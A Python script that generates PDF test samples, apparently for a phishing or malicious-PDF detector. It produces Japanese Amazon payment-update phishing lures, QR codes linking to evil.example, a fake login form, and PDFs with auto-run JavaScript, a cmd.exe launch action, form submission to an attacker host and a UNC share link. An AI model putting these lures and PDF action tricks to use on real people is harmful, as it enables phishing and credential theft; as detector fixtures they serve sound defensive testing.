#!/usr/bin/python3
"""Makes the PDF samples beside it. Needs Debian's chromium, fonts-noto-cjk, libreoffice-writer, qpdf, python3-reportlab."""

import io
import os
import pathlib
import random
import struct
import subprocess
import tempfile
import zlib

os.environ["SOURCE_DATE_EPOCH"] = "1767225600"

from PIL import Image, TiffImagePlugin
from reportlab import rl_config
from reportlab.graphics.barcode.qr import QrCodeWidget
from reportlab.graphics.barcode.qrencoder import QRCode, QRErrorCorrectLevel
from reportlab.graphics import renderPDF
from reportlab.graphics.shapes import Drawing
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import CIDFont
from reportlab.lib.rl_accel import escapePDF
from reportlab.pdfgen import canvas

rl_config.invariant = 1
HERE = pathlib.Path(__file__).parent
WORK = pathlib.Path(tempfile.mkdtemp())
EVIL = "https://evil.example/login?id=1"
WORDS = ["Amazonプライムの会費のお支払いに問題が発生しました。", "お支払い方法を更新してください。"]


def run(*command):
    subprocess.run([str(one) for one in command], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def modules(text):
    code = QRCode(None, QRErrorCorrectLevel.M)
    code.addData(text)
    code.make()
    return [[bool(cell) for cell in row] for row in code.modules]


def framed(rows, quiet=4):
    empty = [False] * (len(rows) + 2 * quiet)
    return [empty] * quiet + [[False] * quiet + row + [False] * quiet for row in rows] + [empty] * quiet


def png(rows, scale):
    wide = [[cell for cell in row for _ in range(scale)] for row in rows for _ in range(scale)]
    raw = b"".join(b"\0" + bytes(0 if cell else 255 for cell in row) for row in wide)
    chunk = lambda name, data: struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    head = struct.pack(">IIBBBBB", len(wide[0]), len(wide), 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def chromium(name, body, style="", family="IPAGothic"):
    page = WORK / "page.html"
    font = f"* {{ font: 14px '{family}' }}"
    page.write_text(f"<!doctype html><html lang=ja><meta charset=utf-8><title>-</title><style>{font}{style}</style><body>{body}</body></html>")
    run("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-pdf-header-footer", "--disable-pdf-tagging", f"--print-to-pdf={HERE / name}", page)


def browser_samples():
    words = "".join(f"<p>{line}</p>" for line in WORDS)
    button = f'<p><a href="{EVIL}">お支払い方法を更新する</a></p><p>公式: <a href="https://evil.example/b">https://www.amazon.co.jp/</a> をご覧ください。</p>'
    chromium("chromium-mail.pdf", f"<h1>重要なお知らせ</h1>{words}{button}")
    chromium("chromium-radicals.pdf", "<p>支払方法 人止長青民</p>", family="Noto Sans CJK JP")
    chromium(
        "gmail-print.pdf",
        f"""<table width=100% class=top><tr><td><b>Gmail</b><td align=right>山田太郎 &lt;taro@example.jp&gt;</table><hr>
        <table width=100%><tr><td><b>【重要】お支払い方法の更新</b><br>1 件のメール</table><hr>
        <table width=100%><tr><td><b>Amazon.co.jp</b> &lt;no-reply@evil.example&gt;<td align=right>2026年1月5日 10:23
        <tr><td colspan=2>To: taro@example.jp</table><br>{words}{button}""",
    )
    chromium(
        "outlook-print.pdf",
        f"""<b>山田 太郎</b><hr><table><tr><td><b>差出人:</b><td>Amazon.co.jp &lt;no-reply@evil.example&gt;
        <tr><td><b>送信日時:</b><td>2026年1月5日月曜日 10:23<tr><td><b>宛先:</b><td>taro@example.jp
        <tr><td><b>件名:</b><td>【重要】お支払い方法の更新</table><br>{words}{button}""",
        "td { padding-right: 40px }",
    )
    chromium(
        "phone-print.pdf",
        f"""<div class=row><span>差出人:</span> Amazon.co.jp <span>no-reply@evil.example</span></div>
        <div class=row><b>件名:</b> 【重要】お支払い方法の更新</div><div class=row><span>日付:</span> 2026年1月5日 10:23</div>
        <div class=row><span>宛先:</span> taro@example.jp</div><hr>{words}{button}""",
        ".row { display: flex; gap: 8px } .row span:first-child { color: #888 }",
    )
    (WORK / "qr.png").write_bytes(png(framed(modules(EVIL)), 6))
    chromium("chromium-qr-picture.pdf", '<p>QR</p><img src="qr.png" width=160>')
    cells = lambda row: "".join(f'<td{" class=d" if cell else ""}>' for cell in row)
    table = "".join(f"<tr>{cells(row)}" for row in framed(modules("https://evil.example/q")))
    chromium("chromium-qr-table.pdf", f"<p>QR</p><table cellspacing=0 cellpadding=0>{table}</table>", "td { width: 5px; height: 5px } .d { background: #000 } * { print-color-adjust: exact }")


def office_sample():
    page = WORK / "libreoffice.html"
    page.write_text(f"<meta charset=utf-8><body style=\"font-family:'IPAGothic'\"><p>請求書</p><p>{WORDS[0]}</p><p><a href='{EVIL}'>お支払いはこちら</a></p>")
    run("soffice", "--headless", "--convert-to", "pdf:writer_web_pdf_Export", "--outdir", WORK, page)
    (HERE / "libreoffice.pdf").write_bytes((WORK / "libreoffice.pdf").read_bytes())


def reportlab_samples():
    out = canvas.Canvas(str(HERE / "cid-fonts.pdf"))
    for at, (encoding, codec) in enumerate(ENCODINGS.items()):
        pdfmetrics.registerFont(EncodedFont(encoding, codec))
        out.setFont(f"HeiseiMin-W3-{encoding}", 14)
        out.drawString(60, 760 - 30 * at, "お支払い方法を更新")
    out.save()

    out = canvas.Canvas(str(HERE / "qr-vector.pdf"))
    drawing = Drawing(160, 160)
    drawing.add(QrCodeWidget(EVIL, barWidth=160, barHeight=160))
    renderPDF.draw(drawing, out, 60, 560)
    for y, row in enumerate(modules("https://evil.example/stroked")):  # a stroke a run, as segno does
        out.setLineWidth(4)
        x = 0
        while x < len(row):
            start = x
            while x < len(row) and row[x]:
                x += 1
            if x > start:
                out.line(320 + 4 * start, 700 - 4 * y, 320 + 4 * x, 700 - 4 * y)
            x += 1
    path = out.beginPath()  # one path with all modules, as most others do
    for y, row in enumerate(modules("https://evil.example/path")):
        for x, cell in enumerate(row):
            if cell:
                path.rect(60 + 3 * x, 400 - 3 * y, 3, 3)
    out.drawPath(path, stroke=0, fill=1)
    out.save()

    out = canvas.Canvas(str(HERE / "form.pdf"))
    out.drawString(60, 780, "Amazon.co.jp")
    out.acroForm.textfield(name="mail", tooltip="Eメールアドレス", x=60, y=720, width=200, value="taro@example.jp")
    out.acroForm.textfield(name="pw", tooltip="パスワード", x=60, y=680, width=200, fieldFlags="password")
    out.save()

    out = canvas.Canvas(str(HERE / "scan.pdf"), pageCompression=1)
    (WORK / "page.png").write_bytes(scan())
    out.drawImage(str(WORK / "page.png"), 0, 0, 595, 842)
    out.save()


def picture_filters():
    """One code a page picture, each packed in another way: JPEG, JPEG 2000, fax, a stencil, and two strips of one code."""
    def code(name):
        rows = framed(modules(f"https://evil.example/{name}"))
        image = Image.new("L", (len(rows), len(rows)), 255)
        image.putdata([0 if cell else 255 for row in rows for cell in row])
        return image.resize((len(rows) * 5, len(rows) * 5), Image.NEAREST)

    def packed(image, form, **options):
        out = io.BytesIO()
        image.save(out, form, **options)
        return out.getvalue()

    def fax(image):
        tiff = TiffImagePlugin.TiffImageFile(io.BytesIO(packed(image.convert("1"), "TIFF", compression="group4")))
        start, size = tiff.tag_v2[273][0], tiff.tag_v2[279][0]
        tiff.fp.seek(start)
        return tiff.fp.read(size), tiff.tag_v2.get(262)

    side = code("jpeg").width
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d" % (side, side)
    raw = lambda entries, data: b"<<%s %s /Length %d>>\nstream\n%s\nendstream" % (head, entries, len(data), data)
    faxed, photometric = fax(code("fax"))
    stencil = packed(code("mask").convert("1"), "PPM").split(b"\n", 2)[2]
    images = [
        raw(b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", packed(code("jpeg"), "JPEG", quality=60)),
        raw(b"/Filter /JPXDecode", packed(code("jpx").convert("RGB"), "JPEG2000")),
        raw(b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms <</K -1 /Columns %d /Rows %d /BlackIs1 %s>>" % (side, side, b"false" if photometric == 0 else b"true"), faxed),
        raw(b"/ImageMask true /Decode [1 0] /BitsPerComponent 1", stencil),
    ]
    draw = b"".join(b"q 150 0 0 150 60 %d cm /I%d Do Q\n" % (640 - 180 * at, at) for at in range(len(images)))
    strips = code("strips").convert("L")
    cuts = [strips.crop((0, top, side, min(top + 50, side))) for top in range(0, strips.height, 50)]
    images += [
        b"<</Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 %s" % (cut.width, cut.height, stream(cut.tobytes())[2:])
        for cut in cuts
    ]
    at = 700
    for number, cut in enumerate(cuts):
        at -= cut.height
        draw += b"q %d 0 0 %d 320 %d cm /I%d Do Q\n" % (cut.width, cut.height, at, len(images) - len(cuts) + number)
    names = b" ".join(b"/I%d %d 0 R" % (at, 5 + at) for at in range(len(images)))
    pdf(
        "picture-filters.pdf",
        [
            b"<</Type /Catalog /Pages 2 0 R>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <</XObject <<%s>>>>>>" % names,
            b"<</Length %d>>\nstream\n%s\nendstream" % (len(draw), draw),
            *images,
        ],
    )


def scattered():
    """Right to the eye, and in the file letter by letter in no order."""
    pdfmetrics.registerFont(EncodedFont("UniJIS-UCS2-H", ENCODINGS["UniJIS-UCS2-H"]))
    pdfmetrics.registerFont(EncodedFont("UniJIS-UCS2-V", ENCODINGS["UniJIS-UCS2-H"]))
    letters = [(60 + 14 * x, 760 - 30 * y, letter) for y, line in enumerate(WORDS) for x, letter in enumerate(line)]
    out = canvas.Canvas(str(HERE / "scattered.pdf"))
    out.setFont("HeiseiMin-W3-UniJIS-UCS2-H", 14)
    random.Random(5).shuffle(letters)
    for x, y, letter in letters:
        out.drawString(x, y, letter)
    out.save()
    out = canvas.Canvas(str(HERE / "vertical.pdf"))
    out.setFont("HeiseiMin-W3-UniJIS-UCS2-V", 14)
    for at, line in enumerate(WORDS):
        out.drawString(500 - 30 * at, 760, line)
    out.save()


ENCODINGS = {
    "90ms-RKSJ-H": lambda text: text.encode("cp932"),
    "90msp-RKSJ-H": lambda text: text.encode("cp932"),
    "EUC-H": lambda text: text.encode("euc_jp"),
    "UniJIS-UCS2-H": lambda text: text.encode("utf-16be"),
    "UniJIS-UTF16-H": lambda text: text.encode("utf-16be"),
    "H": lambda text: bytes(byte & 0x7F for byte in text.encode("euc_jp")),
}


class EncodedFont(CIDFont):
    """Named, not embedded, with text in bytes of a predefined CMap, also of those that reportlab does not encode itself."""

    def __init__(self, encoding, encode):
        super().__init__("HeiseiMin-W3", "UniJIS-UCS2-H")
        self.fontName = self.name = f"HeiseiMin-W3-{encoding}"
        self.encodingName = encoding
        self.encode = encode

    def formatForPdf(self, text):
        return escapePDF(self.encode(text).decode("latin-1"))


def scan():
    """A page that is one picture: the words of chromium-mail.pdf as a grey raster."""
    run("pdftoppm", "-r", "100", "-gray", "-singlefile", "-png", HERE / "chromium-mail.pdf", WORK / "raster")
    return (WORK / "raster.png").read_bytes()


def pdf(name, objects, trailer=b"/Root 1 0 R"):
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table, len(objects) + 1, trailer, start)
    (HERE / name).write_bytes(out)


def stream(data, entries=b""):
    packed = zlib.compress(data, 9)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def hand_written_samples():
    text = b"BT /F1 14 Tf 60 760 Td (Invoice) Tj ET"
    script = b"app.alert('x'); var u = 'https://evil.example/' + 'js'; app.launchURL(\"https://evil.example/launch\\u0055rl\", true);"
    pdf(
        "actions.pdf",
        [
            b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS 6 0 R>> /AA <</WC <</S /URI /URI (https://evil.example/closing)>>>> /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (app.openDoc\\('/C/x'\\))>>]>> /EmbeddedFiles <</Names [(invoice.html) 9 0 R]>>>> /AcroForm <</Fields [8 0 R]>>>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>> /Annots [7 0 R 8 0 R 11 0 R 12 0 R 13 0 R 14 0 R] /AA <</O <</S /ImportData /F (https://evil.example/data.fdf)>>>>>>",
            b"<</Length %d>>\nstream\n%s\nendstream" % (len(text), text),
            b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
            stream(script),
            b"<</Type /Annot /Subtype /Link /Rect [55 750 120 780] /A <</S /#4caunch /F (cmd.exe) /Win <</F (cmd.exe) /P (/c calc)>>>>>>",
            b"<</Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [60 600 160 630] /MK <</CA (Send)>> /A <</S /SubmitForm /F <</FS /URL /F (https://evil.example/form)>> /Flags 4>>>>",
            b"<</Type /Filespec /F (invoice.html) /UF <feff8acb6c4266f8002e00680074006d006c> /EF <</F 10 0 R>>>>",
            stream(b"<a href='https://evil.example/inner'>x</a>", b"/Type /EmbeddedFile /Subtype /text#2Fhtml"),
            b"<</Type /Annot /Subtype /Link /Rect [0 0 0 0] /F 2 /A <</S /URI /URI (https://evil.example/hidden)>>>>",
            b"<</Type /Annot /Subtype /Link /Rect [60 500 160 530] /A <</S /GoToR /F (\\\\\\\\192.0.2.7\\\\share\\\\a.pdf)>>>>",
            b"<</Type /Annot /Subtype /FreeText /Rect [60 400 300 430] /Contents (Call 0120-000-000 now) /DA (/F1 12 Tf)>>",
            b"<</Type /Annot /Subtype /Link /Rect [60 300 160 330] /A <</S /Named /N /NextPage /Next <</S /URI /URI (https://evil.example/next)>>>>>>",
        ],
    )
    form = b"<xdp><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><event><script>app.launchURL('https://evil.example/xfa-script')</script></event><event><submit target='https://evil.example/xfa-submit'/></event></template></xdp>"
    pdf(
        "xfa.pdf",
        [
            b"<</Type /Catalog /Pages 2 0 R /AcroForm <</Fields [] /XFA [(template) 5 0 R]>>>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <<>>>>",
            b"<</Length 0>>\nstream\n\nendstream",
            stream(form),
        ],
    )
    run("qpdf", "--object-streams=generate", "--compress-streams=y", "--deterministic-id", HERE / "actions.pdf", HERE / "actions-packed.pdf")
    encrypt = lambda name, user: run("qpdf", "--encrypt", user, "owner", "256", "--print=none", "--", "--static-id", "--static-aes-iv", HERE / "actions-packed.pdf", HERE / name)
    encrypt("locked.pdf", "user")
    encrypt("owner-only.pdf", "")
    whole = (HERE / "chromium-mail.pdf").read_bytes()
    (HERE / "cut.pdf").write_bytes(whole[: len(whole) * 97 // 100])
    (HERE / "wrong-xref.pdf").write_bytes((HERE / "actions.pdf").read_bytes().replace(b"startxref\n", b"startxref\n9"))
    run("qpdf", "--deterministic-id", "--empty", "--pages", HERE / "actions.pdf", HERE / "chromium-mail.pdf", HERE / "chromium-qr-picture.pdf", "--", HERE / "pages.pdf")
    (HERE / "empty.pdf").write_bytes(b"%PDF-1.7\n")


browser_samples()
office_sample()
reportlab_samples()
scattered()
picture_filters()
hand_written_samples()
